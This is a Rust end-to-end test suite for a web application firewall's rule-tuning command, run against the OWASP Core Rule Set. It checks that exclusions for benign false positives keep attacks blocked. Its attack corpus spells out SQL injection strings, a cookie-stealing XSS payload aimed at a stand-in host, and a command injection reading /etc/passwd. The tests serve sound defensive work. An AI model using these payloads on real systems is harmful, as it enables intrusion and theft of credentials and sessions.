//! End to end: `palisade tune` on CRS v4 (../shared/crs) at paranoia level 2. The
//! real binary runs in front of a recording backend with a JSON audit log; benign
//! requests that CRS PL2 refuses (prose with quotes and SQL-looking words in a
//! comment, a JSON list of links) and attacks go through it, each from one of a few
//! clients (X-Forwarded-For from a trusted 127.0.0.1). Then:
//!
//! - `palisade tune --json` proposes path-scoped exclusions for the benign
//!   refusals, none for the attacks, and proves them: the benign refusals pass in
//!   the replay and no attack of the corpus passes;
//! - `palisade tune --prove` refuses a deliberately too broad exclusion (every SQL
//!   injection rule removed) with exit status 1, naming the attacks it lets through;
//! - an audit log without request bodies is refused, naming the parts to log;
//! - `palisade tune --write`, then SIGHUP: the benign requests pass, the attacks are
//!   still refused.

mod common;

use common::*;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

fn crs() -> Option<PathBuf> {
    let crs = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs");
    required(&crs.join("rules"), "CRS v4 at ../shared/crs")?;
    Some(crs)
}

fn raw(method: &str, target: &str, client: &str, headers: &[(&str, &str)], body: &str) -> Vec<u8> {
    let mut r = format!(
        "{method} {target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0\r\nAccept: */*\r\nX-Forwarded-For: {client}\r\n"
    );
    for (k, v) in headers {
        r += &format!("{k}: {v}\r\n");
    }
    r += &format!(
        "Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    r.into_bytes()
}

const FORM: (&str, &str) = ("Content-Type", "application/x-www-form-urlencoded");
const JSON: (&str, &str) = ("Content-Type", "application/json");

/// Benign requests CRS refuses at paranoia level 2, from client `client`.
fn benign(client: &str, n: usize) -> Vec<Vec<u8>> {
    let comment = "comment=Honestly%2C+it%27s+the+best+one+I%27ve+had+%28so+far%29%3A+I%27d+select+it+again+--+%225%2F5%22+%3B-%29+%26+I%27d+order+more%21";
    let links = r#"{"title":"Reading list","links":["https://docs.rs/serde/latest/serde/","https://www.rust-lang.org/learn","http://blog.example.org/posts/2024/07/rust"]}"#;
    vec![
        raw(
            "POST",
            &format!("/blog/{}/comments", 100 + n),
            client,
            &[FORM],
            comment,
        ),
        raw("POST", "/api/lists", client, &[JSON], links),
    ]
}

/// One attack of the corpus: label, method, target, headers, body.
type Attack = (&'static str, String, String, Vec<(String, String)>, String);

/// Attacks on the same paths and fields, and elsewhere.
fn attacks() -> Vec<Attack> {
    let form = || {
        vec![(
            "Content-Type".to_owned(),
            "application/x-www-form-urlencoded".to_owned(),
        )]
    };
    let json = || vec![("Content-Type".to_owned(), "application/json".to_owned())];
    vec![
        (
            "sqli in the comment",
            "POST".to_owned(),
            "/blog/7/comments".to_owned(),
            form(),
            "comment=1%27+UNION+SELECT+password+FROM+users--+".to_owned(),
        ),
        (
            "xss in the comment",
            "POST".to_owned(),
            "/blog/8/comments".to_owned(),
            form(),
            "comment=%3Cscript%3Edocument.location%3D%27//x.example/%27%2Bdocument.cookie%3C/script%3E".to_owned(),
        ),
        (
            "sqli in a link",
            "POST".to_owned(),
            "/api/lists".to_owned(),
            json(),
            r#"{"links":["1' OR '1'='1' -- "]}"#.to_owned(),
        ),
        (
            "sqli in the query",
            "GET".to_owned(),
            "/search?q=1%27%20AND%201%3D1%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--".to_owned(),
            vec![],
            String::new(),
        ),
        (
            "command injection",
            "GET".to_owned(),
            "/ping?host=127.0.0.1%3Bcat%20/etc/passwd".to_owned(),
            vec![],
            String::new(),
        ),
    ]
}

fn attack_bytes(a: &Attack, client: &str) -> Vec<u8> {
    let h: Vec<(&str, &str)> = a.3.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    raw(&a.1, &a.2, client, &h, &a.4)
}

fn attack_corpus(path: &Path) {
    let lines: Vec<String> = attacks()
        .iter()
        .map(|(label, method, uri, headers, body)| {
            let mut h: Vec<Vec<String>> = vec![
                vec!["Host".into(), "shop.example".into()],
                vec!["User-Agent".into(), "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0".into()],
                vec!["Accept".into(), "*/*".into()],
            ];
            h.extend(headers.iter().map(|(k, v)| vec![k.clone(), v.clone()]));
            h.push(vec!["Content-Length".into(), body.len().to_string()]);
            serde_json::json!({"label": label, "method": method, "uri": uri, "headers": h, "body": body})
                .to_string()
        })
        .collect();
    std::fs::write(path, lines.join("\n") + "\n").unwrap();
}

fn config(
    dir: &TempDir,
    listen: std::net::SocketAddr,
    backend: std::net::SocketAddr,
    crs: &Path,
    parts: &str,
) -> String {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let tune = dir.path("tune");
    std::fs::create_dir_all(&tune).unwrap();
    for f in ["tune-before.conf", "tune-after.conf"] {
        std::fs::write(tune.join(f), "").unwrap();
    }
    let file = |p: &Path| format!("[[rules]]\nfile = \"{}\"\n", p.display());
    let mut rules = file(&repo.join("examples/palisade-recommended.conf"));
    rules += &format!(
        "[[rules]]\ninline = '''\nSecAuditEngine RelevantOnly\nSecAuditLogRelevantStatus \"^(?:5|4(?!04))\"\nSecAuditLogParts {parts}\nSecAuditLogFormat JSON\nSecAuditLogType Serial\nSecAuditLog {}\n'''\n",
        dir.path("audit.log").display()
    );
    rules += &file(&crs.join("crs-setup.conf.example"));
    rules += "[[rules]]\ninline = '''\nSecAction \"id:900000,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=2\"\n'''\n";
    rules += &file(&tune.join("tune-before.conf"));
    rules += &file(&crs.join("rules/*.conf"));
    rules += &file(&tune.join("tune-after.conf"));
    basic_config(
        listen,
        backend,
        &format!(
            "[client_address]\ntrusted_proxies = [\"127.0.0.1\"]\nheader = \"X-Forwarded-For\"\n\n[logs]\nerror_log = \"{}\"\n\n{rules}",
            dir.path("error.log").display()
        ),
    )
}

fn tune(cfg: &Path, args: &[&str]) -> std::process::Output {
    Command::new(palisade_bin())
        .arg("tune")
        .arg("--config")
        .arg(cfg)
        .args(args)
        .output()
        .unwrap()
}

/// Waits until the audit log holds `n` records (the log is written by a task of
/// its own), bounded.
fn wait_records(path: &Path, n: usize) {
    let ok = (0..3000).any(|_| {
        let have = std::fs::read_to_string(path)
            .map(|t| t.lines().count())
            .unwrap_or(0);
        if have >= n {
            return true;
        }
        std::thread::sleep(Duration::from_millis(20));
        false
    });
    assert!(ok, "the audit log did not reach {n} records");
}

const CLIENTS: [&str; 3] = ["198.51.100.1", "198.51.100.2", "198.51.100.3"];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tune_proposes_proves_and_writes_exclusions() {
    let Some(crs) = crs() else { return };
    let backend = Backend::start().await;
    let dir = TempDir::new("tune");
    let listen = loopback(free_port());
    let cfg_text = config(&dir, listen, backend.addr, &crs, "ABCFHZ");
    let p = Palisade::start(&dir, &cfg_text, listen);
    let cfg = dir.path("palisade.toml");

    // The benign requests are refused: false positives.
    let mut refused = 0;
    for (i, client) in CLIENTS.iter().enumerate() {
        for req in benign(client, i) {
            let r = send_raw(listen, &req).await.unwrap();
            assert_eq!(r.status, 403, "{}", String::from_utf8_lossy(&req));
            refused += 1;
        }
    }
    for a in attacks() {
        let r = send_raw(listen, &attack_bytes(&a, "203.0.113.9"))
            .await
            .unwrap();
        assert_eq!(r.status, 403, "{}", a.0);
        refused += 1;
    }
    wait_records(&dir.path("audit.log"), refused);
    let corpus = dir.path("attacks.jsonl");
    attack_corpus(&corpus);

    // The report: proposals for the benign refusals, proven.
    let out = tune(&cfg, &["--attacks", corpus.to_str().unwrap(), "--json"]);
    assert!(out.status.success(), "{}", output_text(&out));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["records"], refused);
    assert_eq!(report["replay_agrees"], refused, "{report}");
    let proposals = report["proposals"].as_array().unwrap();
    let proven: Vec<&Value> = proposals
        .iter()
        .filter(|p| p["verdict"]["status"] == "proven")
        .collect();
    assert!(!proven.is_empty(), "{report}");
    for p in &proven {
        let var = p["var"].as_str().unwrap();
        assert!(
            var == "ARGS:comment" || var == "ARGS:/^json[.]links[.]array_[0-9]+$/",
            "only the benign fields are excluded: {p}"
        );
        let text = p["text"].as_str().unwrap();
        assert!(text.contains("ctl:ruleRemoveTargetById="), "{text}");
        assert!(text.contains("id:1000"), "{text}");
    }
    assert!(
        proven.iter().any(|p| p["text"]
            .as_str()
            .unwrap()
            .contains("@rx ^/blog/[^/]+/comments$")),
        "the comment's exclusion covers every post: {report}"
    );
    let proof = &report["proof"];
    assert_eq!(proof["blocked_before"], refused);
    assert_eq!(proof["blocked_after"], attacks().len(), "{proof}");
    assert_eq!(
        proof["passed_now"].as_array().unwrap().len(),
        2 * CLIENTS.len()
    );
    assert_eq!(proof["attacks"], attacks().len());
    assert_eq!(proof["attacks_blocked_before"], attacks().len());
    assert_eq!(proof["attacks_passing_now"], serde_json::json!([]));
    // Nothing written without --write.
    assert_eq!(
        std::fs::read_to_string(dir.path("tune/tune-before.conf")).unwrap(),
        ""
    );
    let text = tune(&cfg, &["--attacks", corpus.to_str().unwrap()]);
    let text = output_text(&text);
    assert!(text.contains("Nothing written"), "{text}");
    assert!(text.contains("loaded by the configuration"), "{text}");

    // A deliberately too broad exclusion is refused by the proof.
    let broad = dir.path("broad.conf");
    std::fs::write(&broad, "SecRuleRemoveByTag attack-sqli\n").unwrap();
    let out = tune(
        &cfg,
        &[
            "--attacks",
            corpus.to_str().unwrap(),
            "--prove",
            broad.to_str().unwrap(),
        ],
    );
    let text = output_text(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("REFUSED"), "{text}");
    assert!(text.contains("sqli in the comment"), "{text}");

    // Write, reload: the benign requests pass, the attacks are still refused.
    let out = tune(&cfg, &["--attacks", corpus.to_str().unwrap(), "--write"]);
    let text = output_text(&out);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("Reload to apply"), "{text}");
    let before = std::fs::read_to_string(dir.path("tune/tune-before.conf")).unwrap();
    assert!(before.contains("ctl:ruleRemoveTargetById="), "{before}");
    p.sighup();
    wait_for_line(&p.stderr, Duration::from_secs(120), |l| {
        l.contains("reloaded ")
    })
    .expect("the reload");
    for (i, client) in CLIENTS.iter().enumerate() {
        for req in benign(client, i + 10) {
            let r = send_raw(listen, &req).await.unwrap();
            assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&req));
        }
    }
    for a in attacks() {
        let r = send_raw(listen, &attack_bytes(&a, "203.0.113.9"))
            .await
            .unwrap();
        assert_eq!(r.status, 403, "{}", a.0);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tune_refuses_an_audit_log_without_request_bodies() {
    let Some(crs) = crs() else { return };
    let backend = Backend::start().await;
    let dir = TempDir::new("tune-parts");
    let listen = loopback(free_port());
    let cfg_text = config(&dir, listen, backend.addr, &crs, "ABFHZ");
    let _p = Palisade::start(&dir, &cfg_text, listen);
    let req = &benign(CLIENTS[0], 0)[0];
    assert_eq!(send_raw(listen, req).await.unwrap().status, 403);
    wait_records(&dir.path("audit.log"), 1);
    let out = tune(&dir.path("palisade.toml"), &[]);
    let text = output_text(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("audit.log:1"), "{text}");
    assert!(text.contains("part C"), "{text}");
    assert!(text.contains("SecAuditLogParts ABCFHZ"), "{text}");
}

/// The dashboard's tuning panel: `GET /dashboard/api/tune` runs the same analysis
/// over the configured audit log and attack corpus (`[admin] tune_attacks`), behind
/// the admin token, and writes nothing. Small rules of its own: no CRS needed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dashboard_tuning_api() {
    const TOKEN: &str = "tune-dashboard-token-0123456789abcdef";
    let backend = Backend::start().await;
    let dir = TempDir::new("tune-dashboard");
    std::fs::write(dir.path("token"), TOKEN).unwrap();
    let attacks = dir.path("attacks.jsonl");
    std::fs::write(
        &attacks,
        concat!(
            r#"{"label":"sqli in search","method":"GET","uri":"/search?comment=1%27%20union%20select%20password%20from%20users--","headers":[["Host","shop.example"]]}"#,
            "\n"
        ),
    )
    .unwrap();
    let listen = loopback(free_port());
    let admin_addr = loopback(free_port());
    let extra = format!(
        "[client_address]\ntrusted_proxies = [\"127.0.0.1\"]\nheader = \"X-Forwarded-For\"\n\n\
         [admin]\naddress = \"{admin_addr}\"\ntoken_file = \"{}\"\ntune_attacks = \"{}\"\n\n\
         [[rules]]\ninline = '''\nSecRuleEngine On\nSecRequestBodyAccess On\nSecAuditEngine RelevantOnly\n\
         SecAuditLogRelevantStatus \"^4\"\nSecAuditLogParts ABCFHZ\nSecAuditLogFormat JSON\nSecAuditLog {}\n\
         SecRule ARGS:comment \"@contains select\" \"id:10,phase:2,deny,status:403,log,severity:2,msg:'select'\"\n'''\n",
        dir.path("token").display(),
        attacks.display(),
        dir.path("audit.log").display(),
    );
    let _p = Palisade::start(&dir, &basic_config(listen, backend.addr, &extra), listen);
    for (i, client) in CLIENTS.iter().enumerate() {
        let req = raw(
            "POST",
            &format!("/posts/{}/reply", 40 + i),
            client,
            &[FORM],
            "comment=Please+select+the+blue+one%2C+it%27s+lovely",
        );
        assert_eq!(send_raw(listen, &req).await.unwrap().status, 403);
    }
    wait_records(&dir.path("audit.log"), CLIENTS.len());
    let ask = |method: &'static str, auth: bool| async move {
        let auth = if auth {
            format!("Authorization: Bearer {TOKEN}\r\n")
        } else {
            String::new()
        };
        send_raw(
            admin_addr,
            format!(
                "{method} /dashboard/api/tune HTTP/1.1\r\nHost: {admin_addr}\r\n{auth}Content-Length: 0\r\nConnection: close\r\n\r\n"
            )
            .as_bytes(),
        )
        .await
        .unwrap()
    };
    assert_eq!(ask("GET", false).await.status, 401);
    assert_eq!(ask("POST", true).await.status, 405);
    let r = ask("GET", true).await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert!(
        r.header("content-security-policy")
            .is_some_and(|c| c.contains("default-src 'none'"))
    );
    let doc: Value = serde_json::from_slice(&r.body).unwrap();
    assert_eq!(doc["records"], CLIENTS.len());
    let p = &doc["proposals"][0];
    assert_eq!(p["verdict"]["status"], "proven", "{doc}");
    assert_eq!(p["rule_id"], 10);
    assert_eq!(p["var"], "ARGS:comment");
    assert_eq!(p["form"]["paths"][0], "/posts/{}/reply");
    assert_eq!(p["clients"], CLIENTS.len());
    assert_eq!(doc["proof"]["attacks"], 1);
    assert_eq!(doc["proof"]["attacks_blocked_before"], 1);
    assert_eq!(doc["proof"]["attacks_passing_now"], serde_json::json!([]));
    assert_eq!(
        doc["proof"]["passed_now"].as_array().unwrap().len(),
        CLIENTS.len()
    );
    let cmd = doc["command"].as_str().unwrap();
    assert!(cmd.starts_with("palisade tune --config "), "{cmd}");
    assert!(cmd.ends_with(" --write"), "{cmd}");
    assert!(cmd.contains("--attacks "), "{cmd}");
    // Nothing written.
    assert!(!dir.path("tune-before.conf").exists());
}

/// A false positive of a `[[site]]` gets an exclusion in that site's file
/// (`tune-site-NAME.conf`, loaded by its `[[site.rules]]`): after `--write` and a
/// reload, the request passes on that site and is still refused on the others.
/// Small rules of its own: no CRS needed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn site_exclusions_go_in_the_sites_file() {
    let backend = Backend::start().await;
    let dir = TempDir::new("tune-site");
    let site_file = dir.path("tune-site-shop.conf");
    std::fs::write(&site_file, "").unwrap();
    let listen = loopback(free_port());
    let extra = format!(
        "[client_address]\ntrusted_proxies = [\"127.0.0.1\"]\nheader = \"X-Forwarded-For\"\n\n\
         [[rules]]\ninline = '''\nSecRuleEngine On\nSecRequestBodyAccess On\nSecAuditEngine RelevantOnly\n\
         SecAuditLogRelevantStatus \"^4\"\nSecAuditLogParts ABCFHZ\nSecAuditLogFormat JSON\nSecAuditLog {}\n\
         SecRule ARGS:comment \"@contains select\" \"id:10,phase:2,deny,status:403,log,severity:2,msg:'select'\"\n'''\n\n\
         [[site]]\nname = \"shop\"\nhosts = [\"shop.example\"]\n\n[[site.rules]]\nfile = \"{}\"\n",
        dir.path("audit.log").display(),
        site_file.display(),
    );
    let p = Palisade::start(&dir, &basic_config(listen, backend.addr, &extra), listen);
    let request = |i: usize, client: &str| {
        raw(
            "POST",
            &format!("/posts/{}/reply", 40 + i),
            client,
            &[FORM],
            "comment=Please+select+the+blue+one%2C+it%27s+lovely",
        )
    };
    let elsewhere = |req: Vec<u8>| {
        String::from_utf8(req)
            .unwrap()
            .replace("Host: shop.example", "Host: blog.example")
            .into_bytes()
    };
    for (i, client) in CLIENTS.iter().enumerate() {
        assert_eq!(
            send_raw(listen, &request(i, client)).await.unwrap().status,
            403
        );
    }
    wait_records(&dir.path("audit.log"), CLIENTS.len());
    let out = tune(&dir.path("palisade.toml"), &["--write", "--json"]);
    let text = output_text(&out);
    assert!(out.status.success(), "{text}");
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let p0 = &report["proposals"][0];
    assert_eq!(p0["verdict"]["status"], "proven", "{report}");
    assert_eq!(p0["site"], "shop");
    assert_eq!(p0["placement"]["file"], "site");
    assert_eq!(p0["placement"]["site"], "shop");
    let site_file_report = report["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["placement"]["file"] == "site")
        .expect("the site's file");
    assert_eq!(site_file_report["loaded"], true, "{report}");
    let written = std::fs::read_to_string(&site_file).unwrap();
    assert!(
        written.contains(r#"SecRule REQUEST_FILENAME "@rx ^/posts/[^/]+/reply$""#)
            && written.contains("ctl:ruleRemoveTargetById=10;ARGS:comment"),
        "{written}"
    );
    p.sighup();
    wait_for_line(&p.stderr, Duration::from_secs(60), |l| {
        l.contains("reloaded ")
    })
    .expect("the reload");
    assert_eq!(
        send_raw(listen, &request(7, CLIENTS[0]))
            .await
            .unwrap()
            .status,
        200
    );
    assert_eq!(
        send_raw(listen, &elsewhere(request(7, CLIENTS[0])))
            .await
            .unwrap()
            .status,
        403,
        "the exclusion is the site's only"
    );
}
